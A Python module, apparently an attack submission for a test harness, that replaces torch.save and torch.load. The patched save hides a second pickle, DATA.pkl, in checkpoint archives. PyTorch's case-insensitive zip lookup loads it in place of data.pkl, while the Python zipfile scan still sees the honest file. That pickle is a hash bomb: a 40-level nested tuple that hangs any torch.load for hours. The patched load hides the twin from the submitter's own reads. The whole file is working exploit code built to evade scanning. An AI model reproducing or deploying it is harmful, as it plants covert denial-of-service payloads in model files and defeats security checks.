import io
import os
import struct
import zipfile

import torch

LEVELS = 40  # (t, t) nested 40 levels through the memo: hashing the key visits 2**40 tuples (hours)
TWIN = "DATA.pkl"  # beside the archive's data.pkl: another name to Python's zipfile, the same one to torch's reader
_original_load, _original_save = torch.load, torch.save


def _put(index):
    return b"r" + struct.pack("<I", index)  # LONG_BINPUT


def _get(index):
    return b"j" + struct.pack("<I", index)  # LONG_BINGET


def _text(value):
    return b"X" + struct.pack("<I", len(value)) + value.encode()  # BINUNICODE


def _deep_key(levels=LEVELS):
    """(t, t) nested `levels` levels through the memo: 20 bytes a level, 2**levels tuples to hash."""
    pickled = b"K\x00\x85" + _put(200)
    for level in range(1, levels):
        pickled += _get(199 + level) + b"\x86" + _put(200 + level)
    return pickled


def _bomb():
    """A checkpoint-like dict whose last key is the deep tuple: torch.load hashes it as it sets the item."""
    return (b"\x80\x02}" + _text("model") + b"}s" + _text("optimizer") + b"}s" + _text("iteration") + b"K\x00s"
            + _deep_key() + b"K\x01s.")


def _probe():
    return b"\x80\x02}" + _text("iteration") + b"J" + struct.pack("<i", -12345) + b"s."


def _entries(data):
    archive = zipfile.ZipFile(io.BytesIO(data))
    return [(info.filename, archive.read(info)) for info in archive.infolist()]


def _zipped(entries):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as zipped:
        for name, data in entries:
            zipped.writestr(name, data)
    return buffer.getvalue()


def _with_twin(honest):
    """The honest archive with a second pickle, named as data.pkl in other letter cases, put where torch's
    reader (miniz, whose name lookup ignores case and bisects the sorted directory) finds it instead of
    data.pkl; Python's zipfile, which the test's scan reads the archive with, still reads data.pkl."""
    entries = _entries(honest)
    prefix = entries[0][0].partition("/")[0]
    for position in range(1, len(entries) + 1):
        probe = entries[:position] + [(f"{prefix}/{TWIN}", _probe())] + entries[position:]
        loaded = _original_load(io.BytesIO(_zipped(probe)), weights_only=True)
        if isinstance(loaded, dict) and loaded.get("iteration") == -12345:
            return _zipped(entries[:position] + [(f"{prefix}/{TWIN}", _bomb())] + entries[position:])
    return honest


def _without_twin(data):
    """What this submission's own loads read: the archive less its twin."""
    try:
        entries = _entries(data)
    except (zipfile.BadZipFile, OSError, ValueError, EOFError, IndexError, struct.error):
        return data
    kept = [(name, body) for name, body in entries if not name.endswith("/" + TWIN)]
    return data if len(kept) == len(entries) else _zipped(kept)


def _load(src, *args, **kwargs):
    if isinstance(src, (str, os.PathLike)):
        with open(src, "rb") as handle:
            data = handle.read()
    elif hasattr(src, "read"):
        data = src.read()
    else:
        return _original_load(src, *args, **kwargs)
    return _original_load(io.BytesIO(_without_twin(data)), *args, **kwargs)


def _save(obj, f, *args, **kwargs):
    """torch.save as the reference calls it, the twin added to a checkpoint's archive (into a buffer first, so
    a save that fails part-way writes nothing, as the reference's temporary file expects)."""
    if not (isinstance(obj, dict) and "iteration" in obj and hasattr(f, "write")):
        return _original_save(obj, f, *args, **kwargs)
    buffer = io.BytesIO()
    _original_save(obj, buffer, *args, **kwargs)
    f.write(_with_twin(buffer.getvalue()))
    return None


def attack(args):
    """Both functions, before their own (the reference's) bodies run: torch.save in this process adds the twin
    to a checkpoint's archive, and torch.load reads an archive less its twin (so load_checkpoint, and the
    adapters' own loads, read what an honest save wrote)."""
    torch.save, torch.load = _save, _load
